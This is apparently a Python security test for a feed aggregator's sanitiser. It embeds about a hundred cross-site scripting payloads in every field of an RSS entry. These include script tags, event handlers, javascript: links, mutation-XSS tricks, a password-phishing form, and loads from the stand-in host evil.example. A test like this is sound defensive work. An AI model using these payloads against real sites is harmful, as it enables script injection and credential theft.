"""Markup: whatever a source writes into titles, texts and names, nothing that is published does anything.

A spread of vectors the whole way, each in every place of an entry; the corpus that runs in a browser is elsewhere.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from pathlib import Path

from html5lib.html5parser import parseFragment

from tests.build import NOW
from tests.hostile.judge import BASE_URL, Case, Run, Scene, ok, report
from tests.validity.checks import check_document
from tests.web import item, rss

GOOD = ("Good one", "Good two")
CALL = "mark(1)"

VECTORS = {
    "a script": f"<script>{CALL}</script>",
    "a script in capitals": f"<SCRIPT>{CALL}</SCRIPT>",
    "a script with a slash": f"<script/x>{CALL}</script>",
    "a script without an end": f"<script>{CALL}",
    "a script from elsewhere": "<script src=//evil.example/x.js></script>",
    "a script in a script": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "a script after a NUL": f"<scr\0ipt>{CALL}</script>",
    "a handler": f"<img src=x onerror={CALL}>",
    "a handler with a slash": f"<img/src=x/onerror={CALL}>",
    "a handler in quotes": f'<img src="x" onerror="{CALL}">',
    "a handler with a line feed": f"<img src=x onerror\n=\n{CALL}>",
    "a handler with a form feed": f"<img\fsrc=x\fonerror={CALL}>",
    "a handler in entities": "<img src=x onerror=&#109;ark(1)>",
    "a handler of a body": f"<body onload={CALL}>",
    "a handler of details": f"<details open ontoggle={CALL}>x</details>",
    "a handler of a video": f"<video src=x onerror={CALL}></video>",
    "a handler of an audio": f"<audio src onloadstart={CALL}>",
    "a handler of an input": f"<input autofocus onfocus={CALL}>",
    "a handler of a marquee": f"<marquee onstart={CALL}>x</marquee>",
    "a handler of an animation": f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "a handler without a tag's end": f"<img src=x onerror={CALL} ",
    "a handler of an unknown tag": f"<x onclick={CALL} style=position:fixed>x</x>",
    "a link to a script": f"<a href=javascript:{CALL}>x</a>",
    "a link in mixed case": f"<a href=JaVaScRiPt:{CALL}>x</a>",
    "a link with a tab": f"<a href='java\tscript:{CALL}'>x</a>",
    "a link in entities": f"<a href='&#106;avascript&colon;{CALL}'>x</a>",
    "a link with leading controls": f"<a href='\x01javascript:{CALL}'>x</a>",
    "a link to data": "<a href='data:text/html,<script>mark(1)</script>'>x</a>",
    "a link to vbscript": f"<a href=vbscript:{CALL}>x</a>",
    "a link to a view of a source": "<a href='view-source:http://a.example/'>x</a>",
    "a link to a blob": "<a href='blob:http://a.example/1'>x</a>",
    "a link with a target": "<a href=http://a.example/ target=_top>x</a>",
    "a link to send to": "<a href=http://a.example/ ping=http://evil.example/>x</a>",
    "a map's area": f"<map name=x><area href=javascript:{CALL}></map><img usemap=#x src=x>",
    "a picture of data": "<img src='data:image/svg+xml,<svg onload=mark(1)>'>",
    "a picture's other sources": f"<img srcset='javascript:{CALL} 1x, data:x 2x'>",
    "a frame": "<iframe src=http://evil.example/></iframe>",
    "a frame of a script": f"<iframe src=javascript:{CALL}></iframe>",
    "a frame with a document": f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "an object": "<object data=http://evil.example/x.swf></object>",
    "an embedded file": f"<embed src=javascript:{CALL}>",
    "an applet": "<applet code=x></applet>",
    "a portal": "<portal src=http://evil.example/></portal>",
    "a form": "<form action=http://evil.example/><input name=password type=password><button>Log in</button></form>",
    "a button that sends": f"<button formaction=javascript:{CALL}>x</button>",
    "an isindex": f"<isindex type=image src=1 onerror={CALL}>",
    "a style": "<style>*{display:none}</style>",
    "a style that covers": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:red'>x</div>",
    "a style that asks": "<div style='background:url(http://evil.example/)'>x</div>",
    "a style sheet": "<link rel=stylesheet href=http://evil.example/x.css>",
    "a style with an import": "<style>@import 'http://evil.example/x.css';</style>",
    "an expression": f"<div style='width:expression({CALL})'>x</div>",
    "a class of ours": "<div class='site-header' id='top' slot=x>x</div>",
    "a base": "<base href=http://evil.example/>",
    "a refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "a policy": "<meta http-equiv=Content-Security-Policy content=''>",
    "a preload": "<link rel=preload as=script href=http://evil.example/x.js>",
    "a vector picture": f"<svg onload={CALL}>",
    "a vector link": f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    "a vector's use": "<svg><use href='data:image/svg+xml,<svg id=x onload=mark(1)>#x'/></svg>",
    "a vector's foreign object": f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    "a vector's script": f"<svg><script>{CALL}</script></svg>",
    "a vector's set": f"<svg><set attributeName=href to=javascript:{CALL}>",
    "a formula": f"<math href=javascript:{CALL}>x</math>",
    "a formula's link": f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    "a mutation by noscript": f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    "a mutation by a style": f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>",
    "a mutation by a table": f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>",
    "a mutation by a form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    "a mutation by a title": f"<svg><title><style><img src=x onerror={CALL}></style></title></svg>",
    "a mutation by a select": f"<select><style></select><img src=x onerror={CALL}></style>",
    "a mutation by text": f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    "a mutation by a comment": f"<!--><img src=x onerror={CALL}>-->",
    "a mutation by CDATA": f"<svg><![CDATA[><img src=x onerror={CALL}>]]></svg>",
    "a mutation by a template": f"<template><s><template><s><img src=x onerror={CALL}>x</s></template>",
    "a comment that ends early": f"<!-- --!><img src=x onerror={CALL}> -->",
    "a conditional comment": f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    "an instruction": f"<?xml-stylesheet href='javascript:{CALL}'?>",
    "a declaration": f"<!DOCTYPE x [<!ENTITY x '{CALL}'>]>&x;",
    "an attribute without end": f"<a title='x\"><img src=x onerror={CALL}>",
    "a backtick": f"<img src=`x` onerror=`{CALL}`>",
    "a template's braces": "{{constructor.constructor('mark(1)')()}} ${mark(1)} <%= mark(1) %>",
    "an end of the page": f"</p></div></main></body></html><script>{CALL}</script>",
    "an end of CDATA": f"]]>&lt;script>{CALL}&lt;/script>",
    "an end of a textarea": f"</textarea></title></style></script><script>{CALL}</script>",
    "escaped once": f"&lt;script&gt;{CALL}&lt;/script&gt;",
    "escaped twice": f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
    "escaped as a whole": f"&lt;p&gt;x&lt;img src=x onerror={CALL}&gt;&lt;/p&gt;",
    "full-width brackets": f"＜script＞{CALL}＜/script＞",
    "bidi around a link": "<a href=http://evil.example/>\u202emoc.knab\u202c</a>",
    "a picture that counts": "<img src=http://evil.example/p.gif width=1 height=1>",
    "a dialog": f"<dialog open onclose={CALL}>x</dialog>",
    "a popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={CALL}>x</div>",
    "a shadow root": f"<div><template shadowrootmode=open><img src=x onerror={CALL}></template></div>",
    "an import map": '<script type=importmap>{"imports":{}}</script>',
    "a keygen": f"<keygen autofocus onfocus={CALL}>",
    "a plain text": f"<plaintext><img src=x onerror={CALL}>",
    "a frameset": f"<frameset onload={CALL}>",
    "a ruby of handlers": f"<ruby oncopy={CALL}><rt onclick={CALL}>x</ruby>",
    "a bdo": f"<bdo dir=rtl onmouseover={CALL}>x</bdo>",
    "a time": f"<time datetime=x onclick={CALL}>x</time>",
    "an edit": f"<p contenteditable onfocus={CALL} tabindex=1 accesskey=x>x</p>",
}
_HARMLESS = re.compile("https?://|mailto:|#|/|$")
_DANGEROUS = frozenset(
    "script iframe object embed applet form input button select textarea style link meta base svg math template portal "
    "frame frameset noscript xmp plaintext dialog marquee keygen".split()
)


def everywhere(vector: str) -> bytes:
    """A feed whose middle item carries *vector* in every place."""
    said = html.escape(vector.replace("\0", ""), quote=True).replace("\x01", "").replace("\f", " ")
    bad = (
        f"<title>{said}</title><guid>{said}</guid><link>{said}</link><description>{said}</description><author>{said}</author>"
        f"<category>{said}</category><comments>{said}</comments><pubDate>{said}</pubDate>"
        f'<enclosure url="{said}" type="{said}" length="{said}"/>'
        f"<c:encoded xmlns:c='http://purl.org/rss/1.0/modules/content/'>{said}</c:encoded>"
        f"<d:creator xmlns:d='http://purl.org/dc/elements/1.1/'>{said}</d:creator>"
        f'<m:content xmlns:m="http://search.yahoo.com/mrss/" url="{said}" medium="image">'
        f"<m:description>{said}</m:description></m:content>"
    )
    head = f"<title>{said}</title><link>{said}</link><language>{said}</language><generator>{said}</generator>"
    return rss(item("1", "Good one"), bad, item("2", "Good two"), head=head)


CASES = [Case(name, ok(everywhere(vector)), keeps=GOOD) for name, vector in VECTORS.items()]


def active(fragment: str, where: str) -> Iterator[str]:
    """What a browser would run, load into a frame, send, or lay over the page, if it took *fragment* for HTML."""
    for element in parseFragment(fragment, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag.rpartition("}")[2].lower() in _DANGEROUS:
            yield f"<{element.tag}> in {where}: {fragment[:200]!r}"
        for name, value in element.attrib.items():
            attribute = str(name).rpartition("}")[2].lower()
            is_link = attribute in ("href", "src", "action", "poster", "cite", "background", "data", "formaction")
            if attribute.startswith("on") or attribute in ("style", "class", "id", "srcdoc", "ping", "contenteditable"):
                yield f"{attribute} in {where}: {fragment[:200]!r}"
            if is_link and not _HARMLESS.match(value.strip().lower()):
                yield f"{attribute}={value[:60]!r} in {where}"


def all_active(run: Run) -> list[str]:
    """What is active in any entry of the published feed: its texts as HTML, and its titles and names as if they were."""
    found: list[str] = []
    for each in run.items():
        texts = {name: each.get(name, "") for name in ("title", "summary", "content_html")}
        texts["summary"] = html.escape(texts["summary"])  # plain text by JSON Feed, and nobody takes it for HTML
        texts |= {f"author {n}": person["name"] for n, person in enumerate(each.get("authors", ()))}
        texts |= {f"source's {name}": value for name, value in each["_source"].items() if isinstance(value, str)}
        texts |= {
            "link": f'<a href="{html.escape(each.get("url", ""))}">',
            "image": f'<img src="{html.escape(each.get("image", ""))}">',
        }
        texts |= {
            f"file {n}": f'<a href="{html.escape(file["url"])}">' for n, file in enumerate(each.get("attachments", ()))
        }
        found += [fault for where, text in texts.items() for fault in active(text, where)]
    return found


def test_markup(tmp_path: Path) -> None:
    with Scene(tmp_path, CASES, timeout='"60s"') as scene:
        run = scene.refresh()
        faults = [*run.faults(), *all_active(run)]
        assert not faults, "\n".join(faults[:40])
        pages = {path: body for path, body in run.files().items() if path.startswith("articles/")}
        faults = [fault for path, body in pages.items() for fault in check_document(path, body, BASE_URL + path, NOW)]
        assert not faults, "\n".join(faults[:40])
    report([run], len(CASES))
